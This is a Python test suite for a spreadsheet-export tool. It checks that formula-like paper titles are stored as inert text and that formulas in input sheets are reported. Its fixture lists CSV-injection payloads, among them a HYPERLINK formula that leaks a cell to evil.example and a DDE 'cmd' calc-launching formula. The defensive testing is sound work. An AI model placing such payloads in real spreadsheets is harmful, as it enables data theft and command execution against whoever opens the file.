"""Spreadsheet safety: exported cells are never formulas, formulas in input sheets are reported.

Titles and labels come from other people; a cell starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is a formula to Excel and LibreOffice (OWASP, "CSV Injection"). Every export
keeps the text and neutralises it; LibreOffice itself checks that it reads the text, not a result.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from culture_probe.spreadsheet import is_formula_like, neutralise_text
from culture_probe.survey import PaperRecord, build_fields, read_review, write_workbook
from culture_probe.survey._tidy import write_table
from culture_probe.survey.cli import app
from culture_probe.taxonomy import load_taxonomy

TAXONOMY = Path(__file__).parents[1] / "taxonomy" / "taxonomy.yaml"
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Cultural Bias in LLMs")',
    "=1+1",
    "+2+3",
    "-4+5",
    "@SUM(6,7)",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def fields() -> tuple:
    return build_fields(load_taxonomy(TAXONOMY))


def _libreoffice_csv(workbook: Path, out: Path) -> list[list[str]]:
    """The papers sheet as LibreOffice computes it, exported to CSV."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is needed: apt-get install -y libreoffice-calc-nogui"
    _convert(soffice, workbook, out, "csv:Text - txt - csv (StarCalc):44,34,76,1")
    with open(out / f"{workbook.stem}.csv", encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def _convert(soffice: str, source: Path, out: Path, target: str) -> None:
    out.mkdir(exist_ok=True)
    command = [
        soffice,
        f"-env:UserInstallation=file://{out / 'profile'}",
        "--headless",
        "--convert-to",
        target,
        "--outdir",
        str(out),
        str(source),
    ]
    environment = {**os.environ, "HOME": str(out)}
    subprocess.run(command, check=True, capture_output=True, timeout=180, env=environment)


def _paper_list(tmp_path: Path) -> Path:
    path = tmp_path / "papers.csv"
    with open(path, "w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["title", "authors", "year"])
        for number, title in enumerate(HOSTILE_TITLES):
            writer.writerow([title, f"Author{number}, A.", 2020 + number % 4])
    return path


@pytest.mark.slow  # starts LibreOffice
def test_template_from_a_paper_list_stores_formula_titles_as_text(
    tmp_path: Path, fields: tuple
) -> None:
    out = tmp_path / "review.xlsx"
    result = CliRunner().invoke(
        app,
        ["template", "--papers", str(_paper_list(tmp_path)), "-o", str(out), "-t", str(TAXONOMY)],
    )
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out)["papers"]  # data_only=False: a formula would read as type 'f'
    title_cells = [row[1] for row in sheet.iter_rows(min_row=2, max_row=len(HOSTILE_TITLES) + 1)]
    assert [cell.value for cell in title_cells] == HOSTILE_TITLES
    assert {cell.data_type for cell in title_cells} == {"s"}
    assert all(cell.quotePrefix for cell in title_cells)
    # LibreOffice shows the text: "=1+1" and not 2, the HYPERLINK source and not its label.
    computed = _libreoffice_csv(out, tmp_path / "libreoffice")
    assert [row[1] for row in computed[1 : len(HOSTILE_TITLES) + 1]] == HOSTILE_TITLES
    # ... and the workbook reads back with its titles intact and nothing to complain about.
    review = read_review(str(out), fields)
    assert review.issues == []
    assert [record.title for record in review.records] == HOSTILE_TITLES


def test_csv_export_neutralises_formula_text_and_keeps_numbers(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {
            "title": [*HOSTILE_TITLES, "\tTabbed", "\rReturned", "plain - title", "-1.5"],
            "score": [-1.5, 2.0, -3.0, 0.5, 1e-3, -7.0, 8.0, 9.0, 10.0, -11.25],
        }
    )
    path = write_table(table, tmp_path / "out.csv")
    with open(path, encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    titles = [row[0] for row in rows[1:]]
    assert titles[: len(HOSTILE_TITLES)] == ["'" + title for title in HOSTILE_TITLES]
    assert titles[len(HOSTILE_TITLES) :] == ["'\tTabbed", "'\rReturned", "plain - title", "-1.5"]
    assert [float(row[1]) for row in rows[1:]] == table["score"].tolist()
    assert not any(is_formula_like(cell) for row in rows for cell in row)


@pytest.mark.slow  # starts LibreOffice
def test_xlsx_export_writes_text_cells_and_number_cells(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {"title": ["=1+1", "-1.5", "@SUM(1,2)", None], "score": [-1.5, 2.0, float("nan"), 4.0]}
    )
    path = write_table(table, tmp_path / "out.xlsx")
    sheet = load_workbook(path).active
    assert sheet is not None
    titles = [sheet.cell(row=row, column=1) for row in range(2, 6)]
    assert [cell.value for cell in titles] == ["=1+1", "-1.5", "@SUM(1,2)", None]
    assert [cell.data_type for cell in titles[:3]] == ["s", "s", "s"]
    scores = [sheet.cell(row=row, column=2) for row in range(2, 6)]
    assert [cell.value for cell in scores] == [-1.5, 2.0, None, 4.0]
    assert scores[0].data_type == "n"
    computed = _libreoffice_csv(path, tmp_path / "libreoffice")
    assert [row[0] for row in computed[1:4]] == ["=1+1", "-1.5", "@SUM(1,2)"]


def test_merge_and_agreement_exports_are_neutralised(tmp_path: Path, fields: tuple) -> None:
    def record(annotator: str, access: str) -> PaperRecord:
        values = {"access": (access,), "annotator": (annotator,)}
        return PaperRecord("p1", "=1+1", "Author", 2023, values=values)

    first = write_workbook(tmp_path / "AB.xlsx", [record("AB", "black-box")], fields)
    second = write_workbook(tmp_path / "CD.xlsx", [record("CD", "white-box")], fields)
    runner = CliRunner()
    for suffix in ("csv", "xlsx"):
        merged, disagreements = tmp_path / f"tidy.{suffix}", tmp_path / f"dis.{suffix}"
        result = runner.invoke(app, ["merge", str(first), "-o", str(merged), "-t", str(TAXONOMY)])
        assert result.exit_code == 0, result.output
        result = runner.invoke(
            app,
            ["agreement", str(first), str(second), "-o", str(disagreements), "-t", str(TAXONOMY)],
        )
        assert result.exit_code == 0, result.output
        for path in (merged, disagreements):
            if suffix == "csv":
                frame = pd.read_csv(path, dtype=str)
                assert set(frame["title"]) == {"'=1+1"}, path
            else:
                sheet = load_workbook(path).active
                assert sheet is not None
                header = [cell.value for cell in sheet[1]]
                cell = sheet.cell(row=2, column=header.index("title") + 1)
                assert (cell.value, cell.data_type) == ("=1+1", "s"), path


def _with_formulas(path: Path, cells: dict[str, str]) -> Path:
    """Type formulas into the papers sheet, as a user of Excel would (no value computed)."""
    book = load_workbook(path)
    sheet = book["papers"]
    header = [cell.value for cell in sheet[1]]
    for target, formula in cells.items():
        name, _, row = target.partition("@")
        sheet.cell(row=int(row), column=header.index(name) + 1).value = formula
    book.save(path)
    return path


def test_formula_cells_without_a_value_are_errors_named_by_cell(
    tmp_path: Path, fields: tuple
) -> None:
    records = [PaperRecord("a2023", "A title", "A", 2023), PaperRecord("b2024", "B", "B", 2024)]
    path = write_workbook(tmp_path / "review.xlsx", records, fields)
    header = [cell.value for cell in load_workbook(path)["papers"][1]]
    label_column = next(name for name in header if name.startswith("demographic:"))
    _with_formulas(path, {"title@2": '=HYPERLINK("http://x","A")', f"{label_column}@3": '="x"'})
    review = read_review(str(path), fields)
    messages = [str(issue) for issue in review.errors]
    assert len(messages) == 2, messages
    assert "sheet 'papers', row 2, column B (title)" in messages[0]
    assert 'the formula \'=HYPERLINK("http://x","A")\' and no value' in messages[0]
    assert f"row 3, column {_letter(header, label_column)} ({label_column})" in messages[1]
    assert "paste them as values" in messages[1]
    assert not any("is empty" in message for message in messages)
    # merge refuses instead of dropping the label, and writes nothing
    out = tmp_path / "tidy.csv"
    result = CliRunner().invoke(app, ["merge", str(path), "-o", str(out), "-t", str(TAXONOMY)])
    assert result.exit_code == 2 and "no value" in result.output
    assert not out.exists()


@pytest.mark.slow  # starts LibreOffice
def test_formula_cell_with_a_saved_value_is_used_with_a_warning(
    tmp_path: Path, fields: tuple
) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is needed: apt-get install -y libreoffice-calc-nogui"
    path = write_workbook(tmp_path / "review.xlsx", [PaperRecord("a", "A", "A", 2020)], fields)
    _with_formulas(path, {"title@2": '="Culture"&" and LLMs"'})
    # LibreOffice computes the formula and saves its value beside it, as Excel does.
    _convert(soffice, path, tmp_path / "saved", "xlsx")
    review = read_review(str(tmp_path / "saved" / "review.xlsx"), fields)
    assert review.errors == []
    assert [record.title for record in review.records] == ["Culture and LLMs"]
    (warning,) = review.issues
    assert warning.severity == "warning" and "row 2, column B (title)" in str(warning)
    assert "its saved value 'Culture and LLMs' is used" in str(warning)


def _letter(header: list[object], name: str) -> str:
    from openpyxl.utils import get_column_letter

    return str(get_column_letter(header.index(name) + 1))


@pytest.mark.parametrize(
    ("text", "expected"),
    [("=A1", "'=A1"), ("+A1", "'+A1"), ("-A1", "'-A1"), ("@A1", "'@A1"), ("-1.5e3", "-1.5e3")],
)
def test_neutralise_text(text: str, expected: str) -> None:
    assert neutralise_text(text) == expected
